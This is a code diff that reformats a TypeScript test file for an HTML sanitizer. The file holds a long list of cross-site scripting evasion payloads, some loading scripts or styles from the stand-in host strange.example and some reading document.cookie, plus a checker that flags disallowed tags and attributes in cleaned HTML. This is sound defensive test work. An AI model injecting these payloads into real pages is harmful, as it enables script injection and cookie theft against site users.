@@ -2,10 +2,10 @@
 export const markupEvasions: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://strange.example/xss.js></SCRIPT>',
-  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"`/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
+  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
   '<IMG SRC="javascript:alert(\'XSS\');">',
-  '<IMG SRC=javascript:alert(\'XSS\')>',
-  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
+  "<IMG SRC=javascript:alert('XSS')>",
+  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
   '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
   '<a onmouseover="alert(document.cookie)">xss link</a>',
   '<a onmouseover=alert(document.cookie)>xss link</a>',
@@ -32,7 +32,7 @@ export const markupEvasions: readonly string[] = [
   '<SCRIPT SRC=//strange.example/.j>',
   '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
   '<iframe src=https://strange.example/scriptlet.html <',
-  '</script><script>alert(\'XSS\');</script>',
+  "</script><script>alert('XSS');</script>",
   '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
   '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
   '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
@@ -40,17 +40,17 @@ export const markupEvasions: readonly string[] = [
   '<IMG LOWSRC="javascript:alert(\'XSS\')">',
   '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
   '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
-  '<svg/onload=alert(\'XSS\')>',
+  "<svg/onload=alert('XSS')>",
   '<svg><script>alert(1)</script></svg>',
   '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
   '<svg><image href="https://strange.example/a.png"></image></svg>',
   '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<BODY ONLOAD=alert(\'XSS\')>',
+  "<BODY ONLOAD=alert('XSS')>",
   '<BGSOUND SRC="javascript:alert(\'XSS\');">',
   '<BR SIZE="&{alert(\'XSS\')}">',
   '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
   '<LINK REL="stylesheet" HREF="https://strange.example/xss.css">',
-  '<STYLE>@import\'https://strange.example/xss.css\';</STYLE>',
+  "<STYLE>@import'https://strange.example/xss.css';</STYLE>",
   '<META HTTP-EQUIV="Link" Content="<https://strange.example/xss.css>; REL=stylesheet">',
   '<STYLE>BODY{-moz-binding:url("https://strange.example/xssmoz.xml#xss")}</STYLE>',
   '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
@@ -91,7 +91,7 @@ export const markupEvasions: readonly string[] = [
   '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
   '<template><script>alert(1)</script></template>',
   '<p id="location" name="cookie" class="fixed inset-0" style="position:fixed">x</p>',
-  '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->',
+  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
   '<![CDATA[<script>alert(1)</script>]]>',
   '<p><a href="https://example.org/" target="_top" onclick="alert(1)">out</a></p>',
   '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
@@ -99,7 +99,29 @@ export const markupEvasions: readonly string[] = [
 
 /** What is left to complain of in cleaned HTML: each is a way to a script, a stranger or over the page. */
 export function complaintsOf(root: ParentNode): string[] {
-  const allowedTags = new Set(['P', 'BR', 'B', 'STRONG', 'I', 'EM', 'U', 'H3', 'H4', 'H5', 'UL', 'OL', 'LI', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'A', 'IMG']);
+  const allowedTags = new Set([
+    'P',
+    'BR',
+    'B',
+    'STRONG',
+    'I',
+    'EM',
+    'U',
+    'H3',
+    'H4',
+    'H5',
+    'UL',
+    'OL',
+    'LI',
+    'TABLE',
+    'THEAD',
+    'TBODY',
+    'TR',
+    'TH',
+    'TD',
+    'A',
+    'IMG',
+  ]);
   return [...root.querySelectorAll('*')].flatMap((element) => [
     ...(allowedTags.has(element.tagName) ? [] : [`tag ${element.tagName}`]),
     ...[...element.attributes].flatMap(({ name, value }) => {
@@ -108,6 +130,8 @@ export function complaintsOf(root: ParentNode): string[] {
       if (name === 'src' && /^\/(pictures|banners)\/[\w.-]+$/.test(value)) return [];
       return [`${name}=${value}`];
     }),
-    ...(element.getAttribute('target') === '_blank' && !(element.getAttribute('rel') ?? '').includes('noopener') ? ['leads out with an opener'] : []),
+    ...(element.getAttribute('target') === '_blank' && !(element.getAttribute('rel') ?? '').includes('noopener')
+      ? ['leads out with an opener']
+      : []),
   ]);
 }
